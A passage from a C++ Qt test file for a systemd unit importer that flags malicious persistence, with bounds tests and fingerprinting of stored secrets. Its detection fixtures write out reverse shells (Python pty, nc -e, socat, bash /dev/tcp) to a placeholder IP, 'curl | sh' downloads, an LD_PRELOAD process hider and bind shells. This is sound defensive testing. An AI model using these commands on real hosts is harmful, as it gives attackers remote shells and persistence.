    QTest::newRow("python pty") << QByteArray("[Service]\nExecStart=/usr/bin/python3 -c 'import socket,os,pty;"
                                              "s=socket.socket();s.connect((\"203.0.113.7\",4444));"
                                              "os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'")
                                << system << QStringList{rs};
    QTest::newRow("nc -e") << QByteArray("[Service]\nExecStart=/bin/nc -e /bin/sh 203.0.113.7 4444") << system
                           << QStringList{rs};
    QTest::newRow("socat exec") << QByteArray("[Service]\nExecStart=/usr/bin/socat TCP:203.0.113.7:443 "
                                              "EXEC:/bin/bash")
                                << system << QStringList{rs};
    QTest::newRow("base64 into bash") << QByteArray("[Service]\nExecStart=/bin/bash -c \"$(echo ZWNobyBoaQ== | "
                                                    "base64 --decode)\"")
                                      << system << QStringList{enc};
    QTest::newRow("program in /dev/shm") << QByteArray("[Service]\nExecStart=/dev/shm/kworker") << system
                                         << QStringList{tmp};
    QTest::newRow("hidden folder, failure ignored")
        << QByteArray("[Service]\nExecStart=-/usr/local/lib/.cache/upd") << system << QStringList{tmp};
    QTest::newRow("argv0 prefix") << QByteArray("[Service]\nExecStart=@/tmp/x sshd -D") << system << QStringList{tmp};
    QTest::newRow("a socket's pre-start") << QByteArray("[Socket]\nListenStream=8080\nExecStartPre=/tmp/prep")
                                          << QStringLiteral("etc/systemd/system/x.socket") << QStringList{tmp};
    QTest::newRow("LD_PRELOAD") << QByteArray("[Service]\nEnvironment=LD_PRELOAD=/usr/lib/libprocesshider.so\n"
                                              "ExecStart=/usr/sbin/cron -f")
                                << system << QStringList{pre};
    QTest::newRow("timer every 30 s") << QByteArray("[Timer]\nOnUnitActiveSec=30s") << timer << QStringList{min};
    QTest::newRow("timer a minute after it ends")
        << QByteArray("[Timer]\nOnUnitInactiveSec=1min") << timer << QStringList{min};
    QTest::newRow("minutely") << QByteArray("[Timer]\nOnCalendar=minutely") << timer << QStringList{min};
    QTest::newRow("*:0/1") << QByteArray("[Timer]\nOnCalendar=*:0/1") << timer << QStringList{min};
    QTest::newRow("every 10 seconds") << QByteArray("[Timer]\nOnCalendar=*:*:0/10") << timer << QStringList{min};
    QTest::newRow("every minute on Mondays")
        << QByteArray("[Timer]\nOnCalendar=Mon *-*-* *:*:00 UTC") << timer << QStringList{min};
    QTest::newRow("user: python -c") << QByteArray("[Service]\nExecStart=/usr/bin/python3 -c \"print(1)\"") << user
                                     << QStringList{one};
    QTest::newRow("user: env bash -lc") << QByteArray("[Service]\nExecStart=/usr/bin/env bash -lc 'echo hi'") << user
                                        << QStringList{one};
    QTest::newRow("user: curl | sh") << QByteArray("[Service]\nExecStart=/bin/sh -c 'curl -s http://x.example/a | "
                                                   "sh'")
                                     << user << QStringList{dl, one};

    // What a command does with the unit's variables in, as systemd runs it.
    QTest::newRow("payload in a variable") << QByteArray("[Service]\nEnvironment=\"RUN=curl -s http://203.0.113.7/x | "
                                                         "sh\"\nExecStart=/bin/sh -c \"$RUN\"")
                                           << system << QStringList{dl};
    QTest::newRow("variable set after the command")
        << QByteArray("[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/${C2}/443 0>&1'\n"
                      "Environment=C2=203.0.113.7")
        << system << QStringList{rs};
    QTest::newRow("program in a variable") << QByteArray("[Service]\nEnvironment=BIN=/dev/shm/.x/kworker\n"
                                                         "ExecStart=${BIN} --daemon")
                                           << system << QStringList{tmp};
    QTest::newRow("found by its own words once") << QByteArray("[Service]\nEnvironment=U=http://203.0.113.7/i\n"
                                                               "ExecStart=/bin/sh -c 'curl -s $U | sh'")
                                                 << system << QStringList{dl};
    QTest::newRow("$$ is a dollar") << QByteArray("[Service]\nEnvironment=RUN=/dev/shm/x\n"
                                                  "ExecStart=/usr/bin/printf '%s' $$RUN")
                                    << system << none;
    QTest::newRow("a harmless variable") << QByteArray("[Service]\nEnvironment=OPTS=--port=8080\n"
                                                       "ExecStart=/usr/bin/app $OPTS")
                                         << system << none;
    QTest::newRow("an unknown variable") << QByteArray("[Service]\nExecStart=/bin/sh -c \"$RUN\"") << system << none;

    // What a command does with the unit's specifiers in, as systemd loads it.
    QTest::newRow("program in %T") << QByteArray("[Service]\nExecStart=%T/kdevtmpfsi --quiet") << system
                                   << QStringList{tmp};
    QTest::newRow("program in %V named after the unit")
        << QByteArray("[Service]\nExecStart=%V/%p-worker") << system << QStringList{tmp};
    QTest::newRow("download named by %N, found once")
        << QByteArray("[Service]\nExecStart=/bin/sh -c 'curl -s http://203.0.113.9/%N | sh'") << system
        << QStringList{dl};
    QTest::newRow("hidden folder in %h, found once")
        << QByteArray("[Service]\nExecStart=%h/.cache/.k") << system << QStringList{tmp};
    QTest::newRow("a shell run from %T") << QByteArray("[Service]\nExecStart=/bin/sh %T/.s") << system
                                         << QStringList{tmp};
    QTest::newRow("%T and a variable") << QByteArray("[Service]\nEnvironment=BIN=kworker\nExecStart=%T/${BIN}")
                                       << system << QStringList{tmp};
    QTest::newRow("a specifier in a variable's value")
        << QByteArray("[Service]\nEnvironment=DIR=%T\nExecStart=${DIR}/x/run") << system << QStringList{tmp};
    QTest::newRow("instance names the folder")
        << QByteArray("[Service]\nExecStart=/%i/worker") << QStringLiteral("etc/systemd/system/worker@tmp.service")
        << QStringList{tmp};
    QTest::newRow("instance unescaped") << QByteArray("[Service]\nExecStart=/%I/run")
                                        << QStringLiteral("etc/systemd/system/x@var-tmp-cache.service")
                                        << QStringList{tmp};
    QTest::newRow("instance as a path") << QByteArray("[Service]\nExecStart=%f")
                                        << QStringLiteral("etc/systemd/system/x@dev-shm-x.service") << QStringList{tmp};
    QTest::newRow("a template's instance is not known") << QByteArray("[Service]\nExecStart=/%i/worker")
                                                        << QStringLiteral("etc/systemd/system/worker@.service") << none;
    QTest::newRow("user: %C is the user's cache")
        << QByteArray("[Service]\nExecStart=%C/sync/agent") << user << QStringList{tmp};
    QTest::newRow("user: %h is the user's home") << QByteArray("[Service]\nExecStart=%h/bin/agent") << user << none;
    QTest::newRow("state folder") << QByteArray("[Service]\nExecStart=%S/app/bin/app --run %t/app") << system << none;
    QTest::newRow("%% is a percent sign")
        << QByteArray("[Service]\nExecStart=/usr/bin/printf '%%T/x %%s' %%T") << system << none;
    QTest::newRow("an unknown specifier")
        << QByteArray("[Service]\nExecStart=/usr/bin/app --id %m --boot %b") << system << none;
    QTest::newRow("the manager's shell on a socket") << QByteArray("[Service]\nExecStart=-%s\nStandardInput=socket")
                                                     << QStringLiteral("etc/systemd/system/sys-update@.service")
                                                     << QStringList{QStringLiteral("node.systemd.bind-shell")};

    // A shell on a socket: socket activation hands it each connection.
    const QString bind = QStringLiteral("node.systemd.bind-shell");
    const QString accepted = QStringLiteral("etc/systemd/system/sys-update@.service");
    QTest::newRow("bind shell") << QByteArray("[Service]\nExecStart=/bin/bash -i\nStandardInput=socket\n"
                                              "StandardOutput=socket")
                                << accepted << QStringList{bind};
    QTest::newRow("bind shell, input set first")
        << QByteArray("[Service]\nStandardInput=socket\nExecStart=-/bin/sh") << accepted << QStringList{bind};
    QTest::newRow("busybox's shell on a socket") << QByteArray("[Service]\nExecStart=/bin/busybox sh\n"
                                                               "StandardInput=socket")
                                                 << accepted << QStringList{bind};
    QTest::newRow("sshd on a socket") << QByteArray("[Service]\nExecStart=-/usr/sbin/sshd -i\nStandardInput=socket")
                                      << accepted << none;
    QTest::newRow("a script on a socket") << QByteArray("[Service]\nExecStart=/bin/sh /usr/lib/app/handler.sh\n"
                                                        "StandardInput=socket")
                                          << accepted << none;
    QTest::newRow("a shell on a terminal") << QByteArray("[Service]\nExecStart=/bin/bash -l\nStandardInput=tty\n"
                                                         "TTYPath=/dev/tty9")
                                           << system << none;

    // Look-alikes: no finding.
    QTest::newRow("curl health check") << QByteArray("[Service]\nExecStart=/usr/bin/curl -fsS https://hc.example/ping")
                                       << system << none;
    QTest::newRow("find in /tmp") << QByteArray("[Service]\nExecStartPre=/bin/sh -c 'find /tmp -mtime +7 -delete'")
                                  << system << none;
    QTest::newRow("tmp as an argument") << QByteArray("[Service]\nPrivateTmp=true\nExecStart=/usr/bin/app --cache "
                                                      "/tmp/app")
                                        << system << none;
    QTest::newRow("system sh -c exec") << QByteArray("[Service]\nExecStart=/bin/sh -c 'exec /usr/sbin/cron -f'")
                                       << system << none;
    QTest::newRow("user: a program") << QByteArray("[Service]\nExecStart=/usr/bin/syncthing serve --no-browser") << user
                                     << none;
    QTest::newRow("user: a script file") << QByteArray("[Service]\nExecStart=/bin/bash %h/bin/backup.sh") << user
                                         << none;
    QTest::newRow("user: a tool's home") << QByteArray("[Service]\nExecStart=%h/.local/bin/notes-sync") << user << none;
    QTest::newRow("LD_LIBRARY_PATH") << QByteArray("[Service]\nEnvironment=LD_LIBRARY_PATH=/opt/app/lib\n"
                                                   "ExecStart=/opt/app/bin/app")
                                     << system << none;
    QTest::newRow("every 5 minutes") << QByteArray("[Timer]\nOnCalendar=*:0/5") << timer << none;
    QTest::newRow("hourly") << QByteArray("[Timer]\nOnCalendar=hourly") << timer << none;
    QTest::newRow("at 6 and 18") << QByteArray("[Timer]\nOnCalendar=*-*-* 6,18:00") << timer << none;
    QTest::newRow("every 5 min after it ran") << QByteArray("[Timer]\nOnUnitActiveSec=5min") << timer << none;
    QTest::newRow("30 s after boot, once") << QByteArray("[Timer]\nOnBootSec=30s") << timer << none;
    QTest::newRow("a minute and a half") << QByteArray("[Timer]\nOnUnitActiveSec=1min 30s") << timer << none;
}

void TestSystemdUnitImporter::detections()
{
    QFETCH(QByteArray, unit);
    QFETCH(QString, path);
    QFETCH(QStringList, rules);
    const MemoryImport m = runBytes(unit + '\n', path);
    QVERIFY(m.result.hasValue());
    QStringList found;
    for (const Finding& f : m.out.findings)
        found << f.ruleId;
    found.sort();
    rules.sort();
    QCOMPARE(found, rules);
}

void TestSystemdUnitImporter::variablesInTheFinding()
{
    // Found on the command's line, the command shown with its variables in, a
    // credential's as the resource keeps it: its fingerprint.
    const QByteArray token = "ghp_" + QByteArray(36, 'Q').replace(7, 5, "a1b2c");
    const MemoryImport m = runBytes("[Unit]\nDescription=metrics push\n[Service]\n"
                                    "Environment=GITHUB_TOKEN=" +
                                        token +
                                        " \"RUN=curl -s http://203.0.113.7/i.sh | sh -s -- --token\"\n"
                                        "ExecStart=/bin/sh -c \"$RUN $GITHUB_TOKEN\"\n",
                                    QStringLiteral("etc/systemd/system/push.service"));
    QVERIFY(m.result.hasValue());
    QCOMPARE(m.out.findings.size(), size_t(1));
    const Finding& f = m.out.findings.front();
    QCOMPARE(f.ruleId, QStringLiteral("node.systemd.download-exec"));
    QCOMPARE(f.line, qint64(5));
    QVERIFY2(f.detail.contains(QStringLiteral("ExecStart= on line 5 of /etc/systemd/system/push.service, with its "
                                              "variables: /bin/sh -c \"curl -s http://203.0.113.7/i.sh | sh -s -- "
                                              "--token ")),
             qPrintable(f.detail));
    QVERIFY2(f.detail.contains(QStringLiteral("sha256:")), qPrintable(f.detail));
    for (const Finding& g : m.out.findings)
        QVERIFY(!g.detail.contains(QString::fromLatin1(token)));
    for (const auto& r : m.out.resources)
        QVERIFY(!r.body.contains(QString::fromLatin1(token)));
}

void TestSystemdUnitImporter::specifiers_data()
{
    QTest::addColumn<QByteArray>("text");
    QTest::addColumn<QByteArray>("unit");
    QTest::addColumn<bool>("userManager");
    QTest::addColumn<QByteArray>("owner");
    QTest::addColumn<QByteArray>("host");
    QTest::addColumn<QByteArray>("expected");
    QTest::addColumn<QByteArray>("letters"); // those put in, each once, in order

    const QByteArray fsck = "systemd-fsck@dev-disk-by\\x2duuid-4f1c.service";
    const auto sys = [](const char* name, const QByteArray& text, const QByteArray& unit, const QByteArray& expected,
                        const QByteArray& letters) {
        QTest::newRow(name) << text << unit << false << QByteArray() << QByteArray("worker-1.example.internal")
                            << expected << letters;
    };
    // The unit's name.
    sys("%n", "%n", "ssh.service", "ssh.service", "n");
    sys("%N", "%N", "ssh.service", "ssh", "N");
    sys("%p %P", "%p %P", "ssh.service", "ssh ssh", "pP");
    sys("no instance: %i %I empty", "[%i][%I]", "ssh.service", "[][]", "iI");
    sys("no instance: %f the prefix", "%f", "ssh.service", "/ssh", "f");
    sys("%j without a dash", "%j", "ssh.service", "ssh", "j");
    sys("instance %i", "%i", fsck, "dev-disk-by\\x2duuid-4f1c", "i");
    sys("instance %I unescaped", "%I", fsck, "dev/disk/by-uuid/4f1c", "I");
    sys("instance %f a path", "%f", fsck, "/dev/disk/by-uuid/4f1c", "f");
    sys("instance %n %N", "%n %N", fsck, fsck + " systemd-fsck@dev-disk-by\\x2duuid-4f1c", "nN");
    sys("instance %p %P", "%p %P", fsck, "systemd-fsck systemd/fsck", "pP");
    sys("instance %j %J", "%j %J", fsck, "fsck fsck", "jJ");
    sys("getty's command", "-/sbin/agetty -o '-p -- \\u' --noclear %I $TERM", "getty@tty1.service",
        "-/sbin/agetty -o '-p -- \\u' --noclear tty1 $TERM", "I");
    sys("the root as an instance", "%f", "mnt@-.service", "/", "f");
    sys("a broken escape stays", "%I", "x@a\\xZZ.timer", "%I", "");
    sys("a timer's name", "%n", "logrotate.timer", "logrotate.timer", "n");
    // A template's instance is each instance's: not known.
    sys("template %i %I %f stay", "%i %I %f", "getty@.service", "%i %I %f", "");
    sys("template %n %N stay", "%n %N", "getty@.service", "%n %N", "");
    sys("template %p %j", "%p %j", "serial-getty@.service", "serial-getty getty", "pj");
    // A name not known.
    sys("no name: name specifiers stay", "%n %N %p %P %i %I %j %J %f", "", "%n %N %p %P %i %I %j %J %f", "");
    sys("no name: folders still known", "%T", "", "/tmp", "T");
    // The system manager's user and folders: root's, whatever User= says.
    sys("system user", "%u %U %g %G %h %s", "x.service", "root 0 root 0 /root /bin/sh", "uUgGhs");
    sys("system folders", "%t %S %C %L %E %D %T %V", "x.service",
        "/run /var/lib /var/cache /var/log /etc /usr/share /tmp /var/tmp", "tSCLEDTV");
    sys("host", "%H %l", "x.service", "worker-1.example.internal worker-1", "Hl");
    // Percent signs.
    sys("%% a percent", "100%%", "x.service", "100%", "");
    sys("%%h is no specifier", "%%h", "x.service", "%h", "");
    sys("%%%h", "%%%h", "x.service", "%/root", "h");
    sys("a lone % at the end", "50%", "x.service", "50%", "");
    sys("only %", "%", "x.service", "%", "");
    sys("unknown specifiers stay", "%b %m %v %a %o %Z %1 %-", "x.service", "%b %m %v %a %o %Z %1 %-", "");
    sys("url escapes", "http://198.51.100.7/a%20b%2Fc", "x.service", "http://198.51.100.7/a%20b%2Fc", "");
    sys("each letter once, in order", "%T/%h/%T/%n", "x.service", "/tmp//root//tmp/x.service", "Thn");
    sys("no specifier", "/usr/bin/app --flag", "x.service", "/usr/bin/app --flag", "");
    sys("empty", "", "x.service", "", "");

    // A user's manager: the user's home and folders, what depends on the uid not known.
    const auto user = [](const char* name, const QByteArray& text, const QByteArray& owner,
                         const QByteArray& expected) {
        QTest::newRow(name) << text << QByteArray("sync.service") << true << owner << QByteArray() << expected
                            << QByteArray();
    };
    user("user: known", "%u %h %C %E %D %T %V", "deploy",
         "deploy /home/deploy /home/deploy/.cache /home/deploy/.config /home/deploy/.local/share /tmp /var/tmp");
    user("user: uid and runtime not known", "%U %g %G %s %t %S %L", "deploy", "%U %g %G %s %t %S %L");
    user("user: root's home", "%u %h", "root", "root /root");
    user("user: whose not known", "%u %h %C %E %T", "", "%u %h %C %E /tmp");
    user("user: no host", "%H %l", "deploy", "%H %l");
}

void TestSystemdUnitImporter::specifiers()
{
    QFETCH(QByteArray, text);
    QFETCH(QByteArray, unit);
    QFETCH(bool, userManager);
    QFETCH(QByteArray, owner);
    QFETCH(QByteArray, host);
    QFETCH(QByteArray, expected);
    QFETCH(QByteArray, letters);
    const auto view = [](const QByteArray& b) { return std::string_view(b.constData(), size_t(b.size())); };
    unitfile::Specifiers values;
    values.unit = view(unit);
    values.userManager = userManager;
    values.owner = view(owner);
    values.host = view(host);
    std::string put;
    const std::string out = unitfile::expandSpecifiers(view(text), values, &put);
    QCOMPARE(QByteArray::fromStdString(out), expected);
    if (!userManager)
        QCOMPARE(QByteArray::fromStdString(put), letters);
    QCOMPARE(unitfile::expandSpecifiers(view(text), values), out); // the letters are optional
}

void TestSystemdUnitImporter::specifiersStayBounded()
{
    // 100,000 specifiers of a 200-byte name: 64 KiB of values put in, the rest as written.
    const std::string name = std::string(192, 'a') + ".service";
    unitfile::Specifiers values;
    values.unit = name;
    std::string text;
    for (int i = 0; i < 100000; ++i)
        text += "%n";
    const std::string out = unitfile::expandSpecifiers(text, values);
    QVERIFY(out.size() <= text.size() + 64 * 1024 + name.size());
    QVERIFY(out.substr(0, name.size()) == name);
    QVERIFY(out.substr(out.size() - 4) == "%n%n");

    // Through the importer: a command of many specifiers is read, judged and bounded.
    QByteArray unit = "[Service]\nExecStart=/usr/bin/app";
    for (int i = 0; i < 60000; ++i)
        unit += " %T";
    const MemoryImport m = runBytes(unit + '\n');
    QVERIFY(m.result.hasValue());
    QCOMPARE(m.out.resources.size(), size_t(1));
    QVERIFY(m.out.findings.empty());
}

void TestSystemdUnitImporter::specifiersInTheFinding()
{
    const MemoryImport m =
        runFixture("kdevtmpfs.service", QStringLiteral("worker-1/etc/systemd/system/kdevtmpfs.service"));
    QVERIFY(m.result.hasValue());
    QCOMPARE(m.result.value().skipped, 0);
    // The download its own words show; the program systemd runs from /tmp once %T is put in; the
    // hidden folder its own words show.
    QCOMPARE(findingLines(m), (QStringList{QStringLiteral("node.systemd.download-exec@7"),
                                           QStringLiteral("node.systemd.runs-from-temp@8"),
                                           QStringLiteral("node.systemd.runs-from-temp@9")}));
    // The resource keeps the file's own text.
    QCOMPARE(commands(m).value(1), QStringLiteral("ExecStart@8 %T/kdevtmpfsi --quiet"));
    QCOMPARE(commands(m).value(2), QStringLiteral("ExecStopPost@9 %h/.cache/.k/sync -d"));
    // The finding says what was put in, and shows the command as systemd runs it.
    QStringList details;
    for (const Finding& f : m.out.findings) {
        if (f.line == 8)
            details << f.detail;
    }
    QCOMPARE(details.size(), 1);
    QVERIFY2(details[0].contains(QLatin1String("ExecStart= on line 8 of /etc/systemd/system/kdevtmpfs.service, with "
                                               "its specifiers (%T = /tmp): /tmp/kdevtmpfsi --quiet")),
             qPrintable(details[0]));

    // Specifiers and variables together; the host is the node's name.
    SystemdUnitImporter importer;
    SourceHints hints;
    hints.node = QStringLiteral("worker-1");
    const MemoryImport both =
        importBytes(importer, "[Service]\nEnvironment=BIN=kworker\nExecStart=%V/%p-${BIN} --id %H\n",
                    QStringLiteral("worker-1/etc/systemd/system/net-helper.service"), {}, hints);
    QCOMPARE(findingLines(both), QStringList{QStringLiteral("node.systemd.runs-from-temp@3")});
    QVERIFY2(both.out.findings.front().detail.contains(
                 QLatin1String("ExecStart= on line 3 of /etc/systemd/system/net-helper.service, with its specifiers "
                               "(%V = /var/tmp, %p = net-helper, %H = worker-1) and variables: "
                               "/var/tmp/net-helper-kworker --id worker-1")),
             qPrintable(both.out.findings.front().detail));
    QCOMPARE(commands(both), QStringList{QStringLiteral("ExecStart@3 %V/%p-${BIN} --id %H")});
}

void TestSystemdUnitImporter::instancesAndTemplates()
{
    // getty@.service, as packaged and as the instance link systemctl enables: quiet either way, its
    // command kept as written.
    for (const char* path : {"worker-1/lib/systemd/system/getty@.service",
                             "worker-1/etc/systemd/system/getty.target.wants/getty@tty1.service"}) {
        const MemoryImport m = runFixture("getty@.service", QLatin1String(path));
        QVERIFY(m.result.hasValue());
        QVERIFY2(m.out.findings.empty(), qPrintable(findingLines(m).join(QLatin1Char(' '))));
        QCOMPARE(commands(m), QStringList{QStringLiteral("ExecStart@10 -/sbin/agetty -o '-p -- \\\\u' --noclear %I "
                                                         "$TERM")});
    }
    const MemoryImport fsck = runFixture(
        "systemd-fsck@.service",
        QStringLiteral(
            "worker-1/etc/systemd/system/local-fs.target.wants/systemd-fsck@dev-disk-by\\x2duuid-4f1c.service"));
    QVERIFY(fsck.result.hasValue());
    QVERIFY(fsck.out.findings.empty());

    // The same command as a template, an instance of a harmless folder and one of /tmp.
    const QByteArray unit = "[Service]\nExecStart=/%I/cache-clean\n";
    QVERIFY(runBytes(unit, QStringLiteral("worker-1/etc/systemd/system/clean@.service")).out.findings.empty());
    QVERIFY(runBytes(unit, QStringLiteral("worker-1/etc/systemd/system/clean@var-cache.service")).out.findings.empty());
    QCOMPARE(findingLines(runBytes(unit, QStringLiteral("worker-1/etc/systemd/system/clean@tmp.service"))),
             QStringList{QStringLiteral("node.systemd.runs-from-temp@2")});
    // A drop-in of an instance is the instance's; one of every "clean-….service" names no unit.
    QCOMPARE(findingLines(runBytes(unit, QStringLiteral("worker-1/etc/systemd/system/clean@tmp.service.d/x.conf"))),
             QStringList{QStringLiteral("node.systemd.runs-from-temp@2")});
    const QByteArray named = "[Service]\nExecStart=/var/%j/x\n";
    QCOMPARE(findingLines(runBytes(named, QStringLiteral("worker-1/etc/systemd/system/app-tmp.service"))),
             QStringList{QStringLiteral("node.systemd.runs-from-temp@2")});
    QVERIFY(runBytes(named, QStringLiteral("worker-1/etc/systemd/system/app-.service.d/x.conf")).out.findings.empty());
}

void TestSystemdUnitImporter::howSettingsAreRead()
{
    // Repeated settings add to their list, an empty one resets it; the last
    // of a single value holds; comments inside a continued line are skipped.
    const MemoryImport m = runBytes("[Unit]\n"
                                    "Description=first\n"
                                    "Description=second\n"
                                    "[Service]\n"
                                    "Environment=A=1 B=2\n"
                                    "Environment=\n"
                                    "Environment=C=3\n"
                                    "Environment=C=4\n"
                                    "ExecStartPre=/bin/a\n"
                                    "ExecStartPre=\n"
                                    "ExecStartPre=/bin/b \\\n"
                                    "# a comment systemd skips\n"
                                    "  --flag\n"
                                    "User=nobody\n"
                                    "User=\n"
                                    "Group=adm\n"
                                    "EnvironmentFile=/etc/a\n"
                                    "EnvironmentFile=\n"
                                    "[Install]\n"
                                    "WantedBy=a.target b.target\n"
                                    "WantedBy=\n"
                                    "WantedBy=c.target\n"
                                    "[Timer]\n"
                                    "OnCalendar=daily\n"
                                    "OnBootSec=5min\n"
                                    "OnActiveSec=\n"
                                    "OnCalendar=weekly\n");
    QVERIFY(m.result.hasValue());
    QCOMPARE(m.result.value().skipped, 0);
    const QJsonObject body = bodyOf(m);
    QCOMPARE(body.value(QStringLiteral("description")).toString(), QStringLiteral("second"));
    QCOMPARE(envValue(m, "A"), QStringLiteral("(unset)"));
    QCOMPARE(envValue(m, "C"), QStringLiteral("4@8"));
    QCOMPARE(commands(m), QStringList{QStringLiteral("ExecStartPre@11 /bin/b --flag")});
    QCOMPARE(body.value(QStringLiteral("resets")).toArray().size(), 1);
    QVERIFY(!body.contains(QStringLiteral("user")));
    QCOMPARE(body.value(QStringLiteral("group")).toString(), QStringLiteral("adm"));
    QVERIFY(!body.contains(QStringLiteral("environmentFiles")));
    QCOMPARE(strings(body.value(QStringLiteral("wantedBy"))), QStringList{QStringLiteral("c.target")});
    // An empty timer setting resets every timer of the unit.
    QCOMPARE(body.value(QStringLiteral("timer")).toObject(),
             (QJsonObject{{QStringLiteral("OnCalendar"), QJsonArray{QStringLiteral("weekly")}}}));

    // Quotes and escapes as systemd reads them: one word each.
    const MemoryImport q = runBytes("[Service]\nEnvironment=\"MSG=hello world\" 'PATH=/a b' X=a\\ b\n");
    QCOMPARE(envValue(q, "MSG"), QStringLiteral("hello world@2"));
    QCOMPARE(envValue(q, "PATH"), QStringLiteral("/a b@2"));
    QCOMPARE(envValue(q, "X"), QStringLiteral("a b@2"));

    // A last line continued into the end of the file is read as it is.
    const MemoryImport last = runBytes("[Service]\nExecStart=/usr/bin/app \\\n  --last \\");
    QCOMPARE(commands(last), QStringList{QStringLiteral("ExecStart@2 /usr/bin/app --last")});
}

void TestSystemdUnitImporter::secretsNeverReachTheCase()
{
    static const char* const kSecrets[] = {"Pr0xyPassw0rd", "Regi5try-S3cret", "R7mK2xQ9vL4pZ8nW3cY6bT1hJ5dF0sA2eG7u",
                                           "Sup3r-Secret-Arg", "Api-T0ken-Value"};
    const QByteArray unit = "[Service]\n"
                            "Environment=API_TOKEN=Api-T0ken-Value\n"
                            "ExecStart=/usr/bin/backup --password=Sup3r-Secret-Arg\n";
    for (const char* s : kSecrets)
        QVERIFY(fixture("override.conf").contains(s) || unit.contains(s));

    // In the resource and the findings' texts.
    const MemoryImport m = runBytes(unit);
    QCOMPARE(envValue(m, "API_TOKEN"), fp("Api-T0ken-Value") + QStringLiteral("@2"));
    QCOMPARE(commands(m),
             QStringList{QStringLiteral("ExecStart@3 /usr/bin/backup --password=%1").arg(fp("Sup3r-Secret-Arg"))});

    // Anywhere in a case: its rows and the stored copies of the files.
    QTemporaryDir dir;
    const QString tar = dir.filePath(QStringLiteral("worker-1.tar.gz"));
    writeFile(tar, tarGzBytes({{QStringLiteral("worker-1/etc/systemd/system/containerd.service.d/override.conf"),
                                fixture("override.conf")},
                               {QStringLiteral("worker-1/etc/systemd/system/backup.service"), unit}}));
    const QString casePath = dir.filePath(QStringLiteral("case.auditcase"));
    {
        auto rep = importIntoCase(casePath, {tar});
        QVERIFY2(rep.hasValue(), rep.hasValue() ? "" : qPrintable(rep.error().message));
        QCOMPARE(rep.value().resources, 2);
    }
    const QByteArray raw = caseFileBytes(casePath);
    const QByteArray stored = storedOriginals(casePath);
    QVERIFY(stored.contains("NO_PROXY=10.0.0.0/8"));
    for (const char* s : kSecrets) {
        QVERIFY2(!raw.contains(s), s);
        QVERIFY2(!stored.contains(s), s);
    }
    QVERIFY(raw.contains(fp("Regi5try-S3cret").toUtf8()));
}

void TestSystemdUnitImporter::emptyAndUnusable()
{
    const MemoryImport empty = runBytes("# no settings yet\n\n; nor here\n");
    QVERIFY(empty.result.hasValue());
    QVERIFY(hasIssue(empty.issues, QStringLiteral("systemd-unit.empty")));
    QVERIFY(empty.out.resources.empty());
    const MemoryImport nothing = runBytes(QByteArray());
    QVERIFY(nothing.result.hasValue());
    QVERIFY(nothing.out.resources.empty());
    const MemoryImport prose = runBytes("this is prose\nand more of it\n");
    QVERIFY(!prose.result.hasValue());
    QVERIFY(prose.out.resources.empty());
    QVERIFY(prose.out.findings.empty());
}

void TestSystemdUnitImporter::largeInputStaysBounded()
{
    // 12,000 commands from /tmp: the resource keeps the first 10,000 and the
    // findings stop at a hundred, an issue counting the rest.
    QByteArray bytes = "[Service]\n";
    for (int i = 0; i < 12000; ++i)
        bytes += "ExecStartPre=/tmp/job-" + QByteArray::number(i) + "\n";
    const MemoryImport m = runBytes(bytes);
    QVERIFY(keptBounded(m, QStringLiteral("systemd-unit"), "commands", 10000, "notKept", 2000,
                        QStringLiteral("11900 more settings match node.systemd.runs-from-temp")));

    // A command continued over 40,000 lines: read up to the bound, whole words.
    QByteArray continued = "[Service]\nExecStart=/usr/bin/app \\\n";
    for (int i = 0; i < 40000; ++i)
        continued += "  --label=team-" + QByteArray::number(i) + " \\\n";
    continued += "  --last\nRestart=always\n";
    const MemoryImport c = runBytes(continued);
    QVERIFY(c.result.hasValue());
    QVERIFY(hasIssue(c.issues, QStringLiteral("systemd-unit.too-long")));
    const QString command = commands(c).value(0);
    QVERIFY(command.size() <= 256 * 1024 + 20);
    QVERIFY(command.endsWith(QLatin1String("--label=team-") +
                             QString::number(command.count(QLatin1String("--label")) - 1)));
    QCOMPARE(bodyOf(c).value(QStringLiteral("restart")).toString(), QStringLiteral("always")); // the rest read

    // One line of 2 MB: cut by the line reader, the file still read.
    QByteArray huge = "[Service]\nDescription=" + QByteArray(2 * 1024 * 1024, 'x') + "\nExecStart=/usr/bin/app\n";
    const MemoryImport h = runBytes(huge);
    QVERIFY(h.result.hasValue());
    QCOMPARE(commands(h), QStringList{QStringLiteral("ExecStart@3 /usr/bin/app")});
    QVERIFY(hasIssue(h.issues, QStringLiteral("systemd-unit.line-too-long")));
    QVERIFY(h.out.resources.front().body.size() < 2 * 1024 * 1024);
}

void TestSystemdUnitImporter::linesCutOrLeftEmpty()
{
    // A lone '\' continued into a blank line leaves an empty line, which
    // systemd skips: no bad line.
    const MemoryImport empty = runBytes("[Service]\nExecStart=/bin/a\n\\\n\nUser=nobody\n \\\n");
    QVERIFY(empty.result.hasValue());
    QCOMPARE(empty.result.value().skipped, 0);
    QCOMPARE(issueCodes(empty.issues), QStringList());
    QCOMPARE(bodyOf(empty).value(QStringLiteral("user")).toString(), QStringLiteral("nobody"));

    // Cut at the bound inside a quote: its whole words read, the quote closed
    // there, not a bad line. A line cut to nothing is too long, and no bad line.
    const QByteArray quoted = "[Service]\nExecStart=/usr/bin/app \"--a " + QByteArray(300 * 1024, 'x') +
                              "\"\nDescription=" + QByteArray(300 * 1024, 'y') + "\nRestart=always\n";
    const MemoryImport cut = runBytes(quoted);
    QVERIFY(cut.result.hasValue());
    QCOMPARE(cut.result.value().skipped, 0);
    QCOMPARE(commands(cut), QStringList{QStringLiteral("ExecStart@2 /usr/bin/app \"--a\"")});
    QVERIFY(!bodyOf(cut).contains(QStringLiteral("description")));
    QCOMPARE(bodyOf(cut).value(QStringLiteral("restart")).toString(), QStringLiteral("always"));
    const Issue* tooLong = findIssue(cut.issues, QStringLiteral("systemd-unit.too-long"));
    QVERIFY(tooLong);
    QCOMPARE(tooLong->lines, (QVector<qint64>{2, 3}));
    QVERIFY(!hasIssue(cut.issues, QStringLiteral("systemd-unit.bad-line")));
}

void TestSystemdUnitImporter::cancels()
{
    SystemdUnitImporter importer;
    qint64 seen = 0;
    QVERIFY(cancelsPromptly(importer, "[Service]\nExecStart=/usr/bin/true\n", 200000, &seen));
}

void TestSystemdUnitImporter::nodeFromThePath()
{
    for (const char* path : {"worker-1/etc/systemd/system/dbus-update.service",
                             "worker-1/etc/systemd/system/containerd.service.d/override.conf",
